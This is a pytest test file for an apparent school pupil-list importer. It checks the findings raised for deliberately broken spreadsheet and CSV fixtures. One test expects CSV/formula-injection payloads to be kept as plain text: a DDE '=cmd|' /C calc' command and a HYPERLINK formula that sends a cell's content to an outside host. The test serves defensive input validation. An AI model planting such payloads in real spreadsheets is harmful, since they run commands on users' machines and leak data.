"""Every file of tests/data/lists/broken gets what expected.csv says, with its rows."""

from collective.schoolrecords.exchange.contingent import read_contingent
from collective.schoolrecords.exchange.findings import REFUSE_FILE
from collective.schoolrecords.exchange.findings import REFUSE_ROW
from collective.schoolrecords.exchange.findings import WARNING
from lists_data import BROKEN
from lists_data import table_of

import hashlib
import pytest
import re


# How the table words a result, and the level of the finding.
LEVELS = {
    "refuse file": REFUSE_FILE,
    "refuse row": REFUSE_ROW,
    "accept with a warning": WARNING,
    "accept, the formula as text": WARNING,
    "accept": WARNING,
    "accept after detection": WARNING,
}
EXPECTED = table_of("broken/expected.csv")
CLASSES = ["5А", "5Б"]


def read(name, classes=CLASSES):
    return read_contingent((BROKEN / name).read_bytes(), name, classes)


def rows_told(text):
    """The row numbers of the column sheet_rows; «4-5» is one finding at its first row."""
    if re.fullmatch(r"\d+-\d+", text):
        return [int(text.split("-")[0])]
    return [int(number) for number in re.findall(r"\d+", text)]


def test_the_table_names_every_file():
    files = {path.name for path in BROKEN.iterdir()} - {"expected.csv"}
    assert {line["file"] for line in EXPECTED} == files
    assert len(files) == 12


def test_the_files_are_the_ones_that_were_given():
    sums = (BROKEN.parent / "SHA256SUMS").read_text().splitlines()
    assert len(sums) == 16
    for line in sums:
        digest, name = line.split()
        assert hashlib.sha256((BROKEN.parent / name).read_bytes()).hexdigest() == digest


@pytest.mark.parametrize("line", EXPECTED, ids=[line["file"] for line in EXPECTED])
@pytest.mark.parametrize("classes", [CLASSES, None], ids=["known-classes", "any-classes"])
def test_each_file_gets_what_the_table_says(line, classes):
    reading = read(line["file"], classes)
    level = LEVELS[line["result"]]
    rows = rows_told(line["sheet_rows"])
    assert reading.codes() == (line["code"],)
    assert {one.level for one in reading.findings} == {level}
    assert [one.row for one in reading.findings] == (rows or [None])
    assert reading.refused is (level == REFUSE_FILE)
    refused = len(rows) if level == REFUSE_ROW else 0
    assert len(reading.rows) == (0 if reading.refused else 40 - refused)


@pytest.mark.parametrize(
    "name,cells",
    [
        ("02_duplicate_file_number.xlsx", ["I8", "I12"]),
        ("03_impossible_date.xlsx", ["F9"]),
        ("04_wrong_snils.xlsx", ["O14"]),
        ("05_unknown_class.xlsx", ["G7"]),
        ("06_formula_cells.xlsx", ["M5", "N6", "Z7", "Z8", "Z9", "Z10", "M11", "Z12"]),
        ("07_merged_header.xlsx", ["A4"]),
    ],
)
def test_each_finding_names_its_cell(name, cells):
    assert [one.cell for one in read(name).findings] == cells


def test_the_missing_column_is_named():
    assert [one.column for one in read("01_missing_column.xlsx").findings] == ["Дата рождения"]


def test_both_rows_of_a_file_number_name_each_other():
    findings = read("02_duplicate_file_number.xlsx").findings
    assert [(one.row, one.detail) for one in findings] == [(8, "12"), (12, "8")]


def test_the_impossible_day_is_quoted():
    finding = read("03_impossible_date.xlsx").findings[0]
    assert (finding.column, finding.detail) == ("Дата рождения", "31.02.2015")


def test_the_unknown_class_is_quoted():
    assert read("05_unknown_class.xlsx").findings[0].detail == "12Я"


def test_a_wrong_snils_is_kept_as_the_list_has_it():
    rows = {row.row: row for row in read("04_wrong_snils.xlsx").rows}
    assert rows[14].snils == "927-268-133 31"


def test_formulas_stay_text():
    rows = {row.row: row for row in read("06_formula_cells.xlsx").rows}
    assert rows[5].came_from == "=cmd|' /C calc'!A0"
    assert rows[6].address == '=HYPERLINK("http://example.com/?q="&B6,"адрес")'
    assert [rows[number].note for number in (7, 8, 9, 10, 12)] == [
        "=1+1",
        "+79070000000",
        "-2+3+cmd|x",
        "@SUM(1;2)",
        "=2+5",
    ]
    assert rows[11].came_from == "табуляция"


def test_a_header_of_two_rows_names_both():
    reading = read("07_merged_header.xlsx")
    assert reading.findings[0].detail == "4-5"
    assert [row.row for row in reading.rows] == list(range(6, 46))


def test_text_in_an_old_code_page_is_read_right():
    rows = read("11_cp1251_semicolon.csv").rows
    assert (rows[0].last_name, rows[0].class_label, rows[0].key) == ("Береговая", "5А", ("Б", 94))
    assert rows[0].guardians[1].full_name == "Береговой Евгений Викторович"


def test_the_same_pupils_stand_in_the_sound_parts_of_all_files():
    """Files 04, 06, 07 and 11 hold one list; what differs is what was broken on purpose."""

    def people(name):
        return [(row.full_name, row.birth_date, row.key) for row in read(name).rows]

    one = people("04_wrong_snils.xlsx")
    assert len(one) == 40
    for name in ("06_formula_cells.xlsx", "07_merged_header.xlsx", "11_cp1251_semicolon.csv"):
        assert people(name) == one
